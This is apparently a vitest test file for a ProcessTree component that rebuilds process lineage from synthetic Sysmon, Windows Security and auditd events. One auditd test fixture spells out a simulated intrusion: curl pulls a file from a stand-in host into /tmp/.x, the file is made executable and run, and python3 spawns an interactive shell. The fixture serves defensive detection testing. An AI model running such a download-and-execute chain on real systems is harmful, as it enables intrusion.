/** Tests for ProcessTree on hand-made events (real EVTX and auditd samples are in test/correlate-samples.test.ts). */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Fields, LogSource, StoredEvent } from '../core/index.ts';
import { MAX_ANCESTRY, ProcessTree } from './process-tree.ts';

const T0 = Date.UTC(2024, 0, 1, 12, 0, 0);
const S = (ms: number): number => Math.floor(ms / 1000);

let counter = 0;
function ev(
  fields: Fields,
  ts: number,
  more: { tenant?: string; source?: LogSource; format?: string; id?: string } = {},
): StoredEvent {
  counter++;
  return {
    seq: counter,
    id: more.id ?? `ev${String(counter).padStart(5, '0')}`,
    tenant: more.tenant ?? 'acme',
    ts,
    receivedAt: ts,
    source: more.source ?? { product: 'windows' },
    format: more.format ?? 'evtx',
    receiver: 'upload',
    fields,
    entities: {},
  };
}

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
function utc(ms: number): string {
  return new Date(ms).toISOString().replace('T', ' ').replace('Z', '');
}

function sysmon1(
  guid: string,
  pid: number,
  image: string,
  parentGuid: string,
  ppid: number,
  ts: number,
  host = 'WS01',
): StoredEvent {
  return ev(
    {
      EventID: 1,
      Channel: SYSMON,
      Computer: host,
      UtcTime: utc(ts),
      ProcessGuid: `{${guid}}`,
      ProcessId: pid,
      Image: image,
      CommandLine: image,
      ParentProcessGuid: `{${parentGuid}}`,
      ParentProcessId: ppid,
      ParentImage: '-',
      User: 'CORP\\alice',
    },
    ts + 7,
  );
}

function s4688(pid: number, ppid: number, image: string, ts: number, host = 'WS01'): StoredEvent {
  return ev(
    {
      EventID: 4688,
      Channel: 'Security',
      Computer: host,
      NewProcessId: `0x${pid.toString(16)}`,
      NewProcessName: image,
      ProcessId: `0x${ppid.toString(16)}`,
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
    },
    ts,
  );
}

function s4689(pid: number, ts: number, host = 'WS01'): StoredEvent {
  return ev(
    { EventID: 4689, Channel: 'Security', Computer: host, ProcessId: `0x${pid.toString(16)}` },
    ts,
  );
}

const AUDITD = { source: { product: 'linux', service: 'auditd' }, format: 'auditd' } as const;
function execve(pid: number, ppid: number, exe: string, argv: string[], ts: number): StoredEvent {
  const fields: Fields = {
    node: 'web01',
    type: ['SYSCALL', 'EXECVE', 'PROCTITLE'],
    SYSCALL: 'execve',
    success: 'yes',
    pid: String(pid),
    ppid: String(ppid),
    exe,
    argc: String(argv.length),
    proctitle: argv.join(' '),
  };
  argv.forEach((a, i) => {
    fields[`a${i}`] = i < 4 ? ['7ffd0000', a] : a;
  });
  return ev(fields, ts, AUDITD);
}

/** Everything the tree answers about a tenant, for comparing two trees. */
function snapshot(tree: ProcessTree, tenant = 'acme'): unknown {
  return tree.nodes(tenant).map((n) => ({
    ...n,
    children: tree.children(tenant, n.id),
    ancestry: tree.ancestry(tenant, n.id),
  }));
}

function build(events: readonly StoredEvent[]): ProcessTree {
  const tree = new ProcessTree();
  for (const e of events) tree.add(e);
  return tree;
}

describe('ProcessTree', () => {
  it('follows Sysmon GUIDs up to the root and lists children in creation order', () => {
    const events = [
      sysmon1(
        'a0000000-0000-0000-0000-000000000001',
        500,
        'C:\\Windows\\explorer.exe',
        '00000000-0000-0000-0000-000000000000',
        400,
        T0,
      ),
      sysmon1(
        'a0000000-0000-0000-0000-000000000002',
        600,
        'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
        'a0000000-0000-0000-0000-000000000001',
        500,
        T0 + 1000,
      ),
      sysmon1(
        'a0000000-0000-0000-0000-000000000004',
        800,
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'a0000000-0000-0000-0000-000000000002',
        600,
        T0 + 3000,
      ),
      sysmon1(
        'a0000000-0000-0000-0000-000000000003',
        700,
        'C:\\Windows\\System32\\cmd.exe',
        'a0000000-0000-0000-0000-000000000002',
        600,
        T0 + 2000,
      ),
    ];
    const tree = build(events);
    const id = (n: number): string => `process:ws01:a0000000-0000-0000-0000-00000000000${n}`;
    expect(tree.lineageOf(events[2]!)).toEqual([id(4), id(2), id(1), 'process:ws01:400']);
    expect(tree.ancestry('acme', id(4))).toEqual([id(2), id(1), 'process:ws01:400']);
    expect(tree.children('acme', id(2))).toEqual([id(3), id(4)]);
    expect(tree.node('acme', id(3))).toEqual({
      id: id(3),
      host: 'ws01',
      guid: 'a0000000-0000-0000-0000-000000000003',
      pid: 700,
      start: T0 + 2000,
      image: 'C:\\Windows\\System32\\cmd.exe',
      commandLine: 'C:\\Windows\\System32\\cmd.exe',
      user: 'CORP\\alice',
      parent: id(2),
      seen: 'created',
      createdBy: events[3]!.id,
    });
    // the all-zero parent GUID means "unknown": the parent is found by pid (never seen: a placeholder)
    expect(tree.node('acme', 'process:ws01:400')).toEqual({
      id: 'process:ws01:400',
      host: 'ws01',
      pid: 400,
      seen: 'referenced',
    });
  });

  it('resolves reused pids by time: a pid is the latest creation at or before the time asked, unless it ended', () => {
    const events = [
      s4688(100, 4, 'C:\\first.exe', T0),
      s4688(200, 100, 'C:\\child-of-first.exe', T0 + 1000),
      s4689(100, T0 + 2000),
      s4688(300, 100, 'C:\\orphan.exe', T0 + 3000),
      s4688(100, 4, 'C:\\second.exe', T0 + 4000),
      s4688(400, 100, 'C:\\child-of-second.exe', T0 + 5000),
    ];
    const tree = build(events);
    const first = `process:ws01:100:${S(T0)}`;
    const second = `process:ws01:100:${S(T0 + 4000)}`;
    expect(tree.resolve('acme', 'ws01', 100, T0 - 1)).toBe('process:ws01:100');
    expect(tree.resolve('acme', 'ws01', 100, T0)).toBe(first);
    expect(tree.resolve('acme', 'ws01', 100, T0 + 2000)).toBe(first);
    expect(tree.resolve('acme', 'ws01', 100, T0 + 2001)).toBe('process:ws01:100');
    expect(tree.resolve('acme', 'ws01', 100, T0 + 4500)).toBe(second);
    expect(tree.resolve('acme', 'ws02', 100, T0 + 4500)).toBe('process:ws02:100');
    expect(tree.resolve('other', 'ws01', 100, T0 + 4500)).toBe('process:ws01:100');
    expect(tree.lineageOf(events[1]!)).toEqual([
      `process:ws01:200:${S(T0 + 1000)}`,
      first,
      'process:ws01:4',
    ]);
    expect(tree.lineageOf(events[3]!)).toEqual([
      `process:ws01:300:${S(T0 + 3000)}`,
      'process:ws01:100',
    ]);
    expect(tree.lineageOf(events[5]!)).toEqual([
      `process:ws01:400:${S(T0 + 5000)}`,
      second,
      'process:ws01:4',
    ]);
    expect(tree.node('acme', first)).toMatchObject({ image: 'C:\\first.exe', end: T0 + 2000 });
    expect(tree.node('acme', second)?.end).toBeUndefined();
    expect(tree.children('acme', first)).toEqual([`process:ws01:200:${S(T0 + 1000)}`]);
    expect(tree.children('acme', 'process:ws01:4')).toEqual([first, second]);
    // the lineage of an event naming its process by pid (the exit) resolves at its time
    expect(tree.lineageOf(events[2]!)).toEqual([first, 'process:ws01:4']);
  });

  it('gives a creator known only by pid the image its children named it by', () => {
    const child = s4688(0x628, 0x4f0, 'C:\\Windows\\System32\\wusa.exe', T0);
    child.fields['ParentProcessName'] = 'C:\\Python27\\python.exe';
    const tree = build([child]);
    expect(tree.node('acme', 'process:ws01:1264')).toMatchObject({
      pid: 1264,
      image: 'C:\\Python27\\python.exe',
      seen: 'referenced',
    });
  });

  it('settles conflicting names by the earliest sighting, across the lifetimes a placeholder covers', () => {
    const named = (pid: number, ppid: number, parentImage: string, ts: number): StoredEvent => {
      const e = s4688(pid, ppid, `C:\\child${pid}.exe`, ts);
      e.fields['ParentProcessName'] = parentImage;
      return e;
    };
    const tree = build([
      named(11, 100, 'C:\\late.exe', T0 + 5000), // after pid 100's known holder ended
      named(12, 100, 'C:\\middle.exe', T0 - 500),
      named(13, 100, 'C:\\early.exe', T0 - 1000),
      s4688(100, 4, 'C:\\holder.exe', T0),
      named(14, 100, 'C:\\ignored.exe', T0 + 1000), // names the holder, whose creation says otherwise
      s4689(100, T0 + 2000),
    ]);
    expect(tree.node('acme', 'process:ws01:100')).toMatchObject({ image: 'C:\\early.exe' });
    expect(tree.node('acme', `process:ws01:100:${S(T0)}`)).toMatchObject({
      image: 'C:\\holder.exe',
      end: T0 + 2000,
    });
    expect(tree.children('acme', 'process:ws01:100')).toEqual([
      `process:ws01:13:${S(T0 - 1000)}`,
      `process:ws01:12:${S(T0 - 500)}`,
      `process:ws01:11:${S(T0 + 5000)}`,
    ]);
  });

  it('is cycle-safe and bounded', () => {
    const a = 'c0000000-0000-0000-0000-00000000000a';
    const b = 'c0000000-0000-0000-0000-00000000000b';
    const loop = build([
      sysmon1(a, 1, 'a.exe', b, 2, T0),
      sysmon1(b, 2, 'b.exe', a, 1, T0 + 1),
      sysmon1(
        'c0000000-0000-0000-0000-00000000000c',
        3,
        'self.exe',
        'c0000000-0000-0000-0000-00000000000c',
        3,
        T0,
      ),
    ]);
    expect(loop.ancestry('acme', `process:ws01:${a}`)).toEqual([`process:ws01:${b}`]);
    expect(loop.ancestry('acme', 'process:ws01:c0000000-0000-0000-0000-00000000000c')).toEqual([]);
    // a process whose parent pid is its own pid (bad data) does not become its own parent
    const self = build([s4688(77, 77, 'x.exe', T0)]);
    expect(self.node('acme', `process:ws01:77:${S(T0)}`)?.parent).toBeUndefined();

    const chain: StoredEvent[] = [];
    for (let i = 1; i <= 100; i++)
      chain.push(s4688(1000 + i, 1000 + i - 1, `p${i}.exe`, T0 + i * 1000));
    const deep = build(chain);
    const leaf = `process:ws01:1100:${S(T0 + 100_000)}`;
    expect(deep.ancestry('acme', leaf)).toHaveLength(MAX_ANCESTRY);
    expect(deep.lineageOf(chain[99]!)).toHaveLength(MAX_ANCESTRY + 1);
  });

  it('keeps tenants apart', () => {
    const tree = new ProcessTree();
    tree.add({ ...s4688(100, 4, 'C:\\acme.exe', T0), tenant: 'acme' });
    tree.add({ ...s4688(100, 4, 'C:\\globex.exe', T0), id: 'other', tenant: 'globex' });
    const id = `process:ws01:100:${S(T0)}`;
    expect(tree.node('acme', id)?.image).toBe('C:\\acme.exe');
    expect(tree.node('globex', id)?.image).toBe('C:\\globex.exe');
    expect(tree.node('initech', id)).toBeUndefined();
    expect(tree.nodes('acme').map((n) => n.id)).toEqual([id, 'process:ws01:4']);
  });

  it('builds an auditd chain: each execve is a process, its parent the pid that held ppid then', () => {
    const events = [
      execve(2000, 1000, '/usr/bin/bash', ['-bash'], T0),
      execve(
        2001,
        2000,
        '/usr/bin/curl',
        ['curl', '-so', '/tmp/.x', 'http://203.0.113.5/x'],
        T0 + 1000,
      ),
      execve(2002, 2000, '/usr/bin/chmod', ['chmod', '+x', '/tmp/.x'], T0 + 2000),
      execve(2003, 2000, '/tmp/.x', ['/tmp/.x'], T0 + 3000),
      execve(
        2004,
        2003,
        '/usr/bin/python3',
        ['python3', '-c', 'import pty; pty.spawn("/bin/sh")', 'extra', 'args'],
        T0 + 4000,
      ),
      ev(
        {
          node: 'web01',
          type: 'SYSCALL',
          SYSCALL: 'connect',
          success: 'yes',
          pid: '2004',
          ppid: '2003',
          exe: '/usr/bin/python3',
        },
        T0 + 5000,
        AUDITD,
      ),
      // pid 2001 reused later by a different program
      execve(2001, 1, '/usr/sbin/cron', ['/usr/sbin/cron', '-f'], T0 + 60_000),
    ];
    const tree = build(events);
    const id = (pid: number, ms: number): string => `process:web01:${pid}:${S(ms)}`;
    expect(tree.lineageOf(events[5]!)).toEqual([
      id(2004, T0 + 4000),
      id(2003, T0 + 3000),
      id(2000, T0),
      'process:web01:1000',
    ]);
    expect(tree.node('acme', id(2004, T0 + 4000))).toMatchObject({
      image: '/usr/bin/python3',
      commandLine: 'python3 -c import pty; pty.spawn("/bin/sh") extra args',
    });
    expect(tree.children('acme', id(2000, T0))).toEqual([
      id(2001, T0 + 1000),
      id(2002, T0 + 2000),
      id(2003, T0 + 3000),
    ]);
    expect(tree.lineageOf(events[6]!)).toEqual([id(2001, T0 + 60_000), 'process:web01:1']);
    expect(tree.resolve('acme', 'web01', 2001, T0 + 1500)).toBe(id(2001, T0 + 1000));
  });

  it('lets the richer Sysmon view win a pid when Sysmon and Security record the same creation', () => {
    const g = 'd0000000-0000-0000-0000-000000000001';
    const tree = build([
      s4688(0x17b8, 0x27c, 'C:\\x.exe', T0),
      sysmon1(g, 0x17b8, 'C:\\x.exe', '00000000-0000-0000-0000-000000000000', 0x27c, T0),
      s4688(0x11e4, 0x17b8, 'C:\\Windows\\System32\\conhost.exe', T0 + 22),
    ]);
    expect(tree.node('acme', `process:ws01:4580:${S(T0 + 22)}`)?.parent).toBe(`process:ws01:${g}`);
  });

  it('answers the same whatever the order and however often events are added', () => {
    const events = [
      s4688(100, 4, 'C:\\first.exe', T0),
      s4688(200, 100, 'C:\\a.exe', T0 + 1000),
      s4689(100, T0 + 2000),
      s4688(300, 100, 'C:\\b.exe', T0 + 3000),
      s4688(100, 4, 'C:\\second.exe', T0 + 4000),
      s4688(400, 100, 'C:\\c.exe', T0 + 5000),
      s4689(400, T0 + 6000),
      sysmon1(
        'e0000000-0000-0000-0000-000000000001',
        500,
        'C:\\s.exe',
        '00000000-0000-0000-0000-000000000000',
        400,
        T0 + 5500,
      ),
      sysmon1(
        'e0000000-0000-0000-0000-000000000002',
        600,
        'C:\\t.exe',
        'e0000000-0000-0000-0000-000000000001',
        500,
        T0 + 5600,
      ),
      ev(
        {
          EventID: 5,
          Channel: SYSMON,
          Computer: 'WS01',
          UtcTime: utc(T0 + 7000),
          ProcessGuid: 'e0000000-0000-0000-0000-000000000002',
          ProcessId: 600,
          Image: 'C:\\t.exe',
        },
        T0 + 7000,
      ),
      ev(
        {
          EventID: 3,
          Channel: SYSMON,
          Computer: 'WS01',
          ProcessGuid: 'e0000000-0000-0000-0000-000000000009',
          ProcessId: 900,
          Image: 'C:\\net.exe',
        },
        T0 + 7000,
      ),
      execve(2000, 1000, '/usr/bin/bash', ['bash'], T0),
      execve(2001, 2000, '/usr/bin/id', ['id'], T0 + 10),
    ];
    const expected = snapshot(build(events));
    fc.assert(
      fc.property(
        fc.shuffledSubarray(events, { minLength: events.length, maxLength: events.length }),
        fc.array(fc.constantFrom(...events), { maxLength: 5 }),
        (order, repeats) => {
          expect(snapshot(build([...order, ...repeats]))).toEqual(expected);
        },
      ),
      { numRuns: 200 },
    );
  });

  it('answers the same for any order of random 4688 events with few pids (heavy reuse)', () => {
    const arbEvent = fc.record({
      pid: fc.integer({ min: 1, max: 6 }),
      ppid: fc.integer({ min: 1, max: 6 }),
      t: fc.integer({ min: 0, max: 30 }),
      exit: fc.boolean(),
    });
    fc.assert(
      fc.property(
        fc.array(arbEvent, { minLength: 1, maxLength: 25 }).chain((specs) => {
          const events = specs.map((s, i) =>
            s.exit
              ? ev(
                  { EventID: 4689, Channel: 'Security', Computer: 'H', ProcessId: s.pid },
                  T0 + s.t * 500,
                  { id: `r${i}` },
                )
              : ev(
                  {
                    EventID: 4688,
                    Channel: 'Security',
                    Computer: 'H',
                    NewProcessId: s.pid,
                    ProcessId: s.ppid,
                    NewProcessName: `p${i}.exe`,
                  },
                  T0 + s.t * 500,
                  { id: `r${i}` },
                ),
          );
          return fc.tuple(
            fc.constant(events),
            fc.shuffledSubarray(events, { minLength: events.length, maxLength: events.length }),
          );
        }),
        ([events, shuffled]) => {
          expect(snapshot(build(shuffled))).toEqual(snapshot(build(events)));
        },
      ),
      { numRuns: 300 },
    );
  });

  it('ignores events that name no process', () => {
    const tree = new ProcessTree();
    expect(
      tree.add(ev({ EventID: 4624, Channel: 'Security', Computer: 'WS01', ProcessId: '0x0' }, T0)),
    ).toBe(false);
    expect(tree.add(ev({ message: 'hello' }, T0, { source: {}, format: 'json' }))).toBe(false);
    expect(tree.nodes('acme')).toEqual([]);
    expect(tree.lineageOf(ev({ message: 'hello' }, T0, { source: {}, format: 'json' }))).toEqual(
      [],
    );
  });
});
